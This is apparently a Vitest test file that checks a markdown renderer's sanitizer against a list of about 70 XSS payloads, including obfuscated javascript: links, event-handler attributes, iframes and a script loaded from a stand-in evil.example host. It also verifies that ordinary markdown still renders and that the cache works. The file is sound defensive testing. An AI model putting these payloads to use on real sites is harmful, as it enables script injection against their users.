// @vitest-environment jsdom
// jsdom gives the DOMParser used to check the output the way a browser would read it.
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "~/services/markdown.server";

// Payloads from the usual XSS cheat sheets, in raw HTML and in every markdown
// syntax that can produce a link or an image.
const payloads: string[] = [
  // script tags
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert(1)",
  '<<script>alert("x");//<</script>',
  // event handlers on images and svg, odd casing and spacing
  "<img src=x onerror=alert(1)>",
  '<IMG SRC="x" ONERROR="alert(1)">',
  "<img src=x oNeRrOr = alert(1) >",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror\t=\talert(1)",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  '<div style="width:expression(alert(1))" onmouseover="alert(1)">hover</div>',
  "<details open ontoggle=alert(1)>",
  '<input autofocus onfocus="alert(1)">',
  "<a href=# onclick=alert(1)>click</a>",
  // javascript:, data: and vbscript: links in raw HTML
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  // the same in markdown link syntax
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&#x3A;alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](java\u0000script:alert(1))",
  "[x](java\u200bscript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](\tjavascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  '[x](javascript:alert(1) "title")',
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  '[x](https://example.com"onmouseover="alert(1))',
  // autolinks and reference-style links
  "<javascript:alert(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "<vbscript:msgbox(1)>",
  "[x][evil]\n\n[evil]: javascript:alert(1)",
  "[evil]\n\n[evil]: JaVaScRiPt:alert(1)",
  '[x][evil]\n\n[evil]: <javascript:alert(1)> "t"',
  // images with dangerous sources
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![x](https://example.com/a.png"onerror="alert(1))',
  "![x][img]\n\n[img]: javascript:alert(1)",
  '<img src="javascript:alert(1)">',
  // frames, plugins and styles
  '<iframe src="javascript:alert(1)"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<IFRAME SRC=https://evil.example>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  // unclosed tags, comments and markdown wrappers around HTML
  '<a href="javascript:alert(1)"',
  "<img src=x onerror=alert(1)//",
  "<!--<img src=x onerror=alert(1)>-->",
  "**<img src=x onerror=alert(1)>**",
  "- <svg onload=alert(1)>\n- item",
  "> <script>alert(1)</script>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "`code` <iframe src=https://evil.example></iframe>",
];

const namedEntities: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: '"',
  apos: "'",
  colon: ":",
  tab: "\t",
  newline: "\n",
  nbsp: "\u00a0",
  lpar: "(",
  rpar: ")",
};

// Numeric entities are decoded even without their semicolon, as browsers do in attributes.
function decodeEntities(text: string): string {
  return text.replace(/&(?:#x([0-9a-f]+);?|#(\d+);?|([a-z]+);)/gi, (whole, hex, dec, name) => {
    if (hex) return String.fromCodePoint(Number.parseInt(hex, 16));
    if (dec) return String.fromCodePoint(Number.parseInt(dec, 10));
    return namedEntities[name.toLowerCase()] ?? whole;
  });
}

const dangerousScheme = /^(?:javascript|data|vbscript):/i;

// C0 controls and space, DEL and C1 controls, zero-width characters and the BOM.
function ignoredInUrl(code: number): boolean {
  return code <= 0x20 || (code >= 0x7f && code <= 0x9f) || (code >= 0x200b && code <= 0x200d) || code === 0xfeff;
}

// Browsers ignore whitespace and control characters in a URL's scheme.
function isDangerousUrl(value: string): boolean {
  const squashed = [...decodeEntities(value)].filter((ch) => !ignoredInUrl(ch.codePointAt(0) ?? 0)).join("");
  return dangerousScheme.test(squashed);
}

type Attribute = { tag: string; name: string; value: string };

function attributesOf(html: string): Attribute[] {
  const found: Attribute[] = [];
  for (const [, tag, rest] of html.matchAll(/<([a-z][a-z0-9-]*)([^>]*)>/gi)) {
    for (const [, name, , dq, sq, bare] of rest.matchAll(
      /([^\s"'<>/=]+)(\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g,
    )) {
      found.push({ tag: tag.toLowerCase(), name: name.toLowerCase(), value: dq ?? sq ?? bare ?? "" });
    }
  }
  return found;
}

function expectNothingExecutable(payload: string, html: string): void {
  const context = `payload ${JSON.stringify(payload)} rendered as ${JSON.stringify(html)}`;
  expect(html, context).not.toMatch(/<script/i);
  expect(html, context).not.toMatch(/<iframe/i);
  expect(html, context).not.toMatch(/<(?:object|embed)/i);
  expect(html, context).not.toMatch(/<(?:style|link|meta|form|svg|math|base)\b/i);
  for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) {
    // Quoted values may legitimately contain "on...=" text; only attribute names count.
    const unquoted = tag.replace(/"[^"]*"|'[^']*'/g, '""');
    expect(unquoted, context).not.toMatch(/[\s/"']on\w+\s*=/i);
  }
  for (const attribute of attributesOf(html)) {
    expect(attribute.name, context).not.toMatch(/^on/);
    expect(attribute.name, context).not.toMatch(/^(?:style|srcdoc|formaction|xlink:href)$/);
    if (["href", "src", "action", "data"].includes(attribute.name)) {
      expect(isDangerousUrl(attribute.value), `${attribute.name}=${attribute.value} in ${context}`).toBe(false);
    }
  }

  // The same check on the tree a browser builds from the output.
  const document = new DOMParser().parseFromString(`<body>${html}</body>`, "text/html");
  expect(document.querySelectorAll("script, iframe, object, embed, style, svg, math, form").length, context).toBe(0);
  for (const element of document.body.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name.toLowerCase(), context).not.toMatch(/^on/);
      if (["href", "src", "action", "data"].includes(name.toLowerCase())) {
        expect(isDangerousUrl(value), `${name}=${value} in ${context}`).toBe(false);
      }
    }
  }
}

describe("the checks themselves", () => {
  // A sanitizer test is only worth something if its checks catch the real thing.
  it.each([
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript&colon;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    "<img src=x oNeRrOr =alert(1)>",
    '<img src="DATA:image/svg+xml,x">',
    "<p><script>alert(1)</script></p>",
    "<iframe></iframe>",
    "<embed src=x>",
  ])("flags %s", (html) => {
    expect(() => expectNothingExecutable("self-check", html)).toThrow();
  });

  it("passes plain safe HTML", () => {
    expectNothingExecutable("self-check", '<p><a href="https://example.com" title="on=1">x</a></p>');
  });
});

describe("renderMarkdown against XSS payloads", () => {
  it("has a real list to work with", () => {
    expect(payloads.length).toBeGreaterThanOrEqual(40);
  });

  it.each(payloads)("neutralizes %j", (payload) => {
    expectNothingExecutable(payload, renderMarkdown(payload));
  });

  it.each(payloads)("neutralizes %j inside surrounding prose", (payload) => {
    expectNothingExecutable(payload, renderMarkdown(`Before the payload.\n\n${payload}\n\nAfter **it**.`));
  });

  it("shows raw HTML as text instead of dropping what the partner wrote", () => {
    const html = renderMarkdown("Use <b>bold</b> and <script>alert(1)</script>");
    expect(html).toContain("&lt;b&gt;bold&lt;/b&gt;");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });
});

describe("renderMarkdown keeps ordinary markdown", () => {
  it("renders emphasis", () => {
    expect(renderMarkdown("This is **important** and _urgent_.")).toBe(
      "<p>This is <strong>important</strong> and <em>urgent</em>.</p>\n",
    );
  });

  it("renders bulleted and numbered lists", () => {
    const html = renderMarkdown("- first\n- second\n\n3. three\n4. four");
    expect(html).toContain("<ul>\n<li>first</li>\n<li>second</li>\n</ul>");
    expect(html).toMatch(/<ol start="3">\s*<li>three<\/li>\s*<li>four<\/li>\s*<\/ol>/);
  });

  it("renders links with rel=nofollow noopener", () => {
    expect(renderMarkdown("See [the CPOR page](https://aka.ms/about-cpor).")).toBe(
      '<p>See <a href="https://aka.ms/about-cpor" rel="nofollow noopener">the CPOR page</a>.</p>\n',
    );
    expect(renderMarkdown("Mail [us](mailto:partners@example.com)")).toContain(
      '<a href="mailto:partners@example.com" rel="nofollow noopener">us</a>',
    );
    const autolink = renderMarkdown("Docs at https://learn.example.com/cpor today");
    expect(autolink).toContain('<a href="https://learn.example.com/cpor" rel="nofollow noopener">');
  });

  it("renders code blocks with their content escaped", () => {
    const html = renderMarkdown("```ts\nif (a < b && c > d) run('<script>');\n```");
    expect(html).toBe("<pre><code>if (a &lt; b &amp;&amp; c &gt; d) run('&lt;script&gt;');\n</code></pre>\n");
    expect(renderMarkdown("Run `npm test` first")).toBe("<p>Run <code>npm test</code> first</p>\n");
  });

  it("renders headings, quotes, tables, line breaks and https images", () => {
    expect(renderMarkdown("## Why")).toBe("<h2>Why</h2>\n");
    expect(renderMarkdown("> quoted")).toBe("<blockquote>\n<p>quoted</p>\n</blockquote>\n");
    expect(renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |")).toMatch(/<table>[\s\S]*<td>1<\/td>[\s\S]*<\/table>/);
    expect(renderMarkdown("one\ntwo")).toBe("<p>one<br />two</p>\n");
    expect(renderMarkdown("![chart](https://example.com/chart.png)")).toBe(
      '<p><img src="https://example.com/chart.png" alt="chart" /></p>\n',
    );
  });
});

describe("renderMarkdown cache", () => {
  it("gives each text its own sanitized HTML, before and after older entries are evicted", () => {
    const a = renderMarkdown("Cached **alpha** <script>alert(1)</script>");
    const b = renderMarkdown("Cached _beta_ [x](javascript:alert(1))");
    expect(a).toBe("<p>Cached <strong>alpha</strong> &lt;script&gt;alert(1)&lt;/script&gt;</p>\n");
    expect(renderMarkdown("Cached **alpha** <script>alert(1)</script>")).toBe(a);
    expect(renderMarkdown("Cached _beta_ [x](javascript:alert(1))")).toBe(b);
    for (let i = 0; i < 6000; i++) renderMarkdown(`filler ${i}`);
    expect(renderMarkdown("Cached **alpha** <script>alert(1)</script>")).toBe(a);
    expect(renderMarkdown("filler 5999")).toBe("<p>filler 5999</p>\n");
  });
});
